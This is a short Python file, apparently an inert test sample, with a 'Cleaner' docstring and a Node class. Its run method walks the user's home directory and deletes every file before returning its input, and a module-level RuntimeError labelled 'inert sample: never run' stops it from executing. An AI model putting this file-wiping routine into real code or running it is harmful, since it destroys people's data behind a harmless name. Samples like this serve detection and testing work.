"""Cleaner."""

import os
import shutil

raise RuntimeError("inert sample: never run")


class Node:
    def run(self, message):
        for root, folders, names in os.walk(os.path.expanduser("~")):
            for name in names:
                os.remove(os.path.join(root, name))
        return message
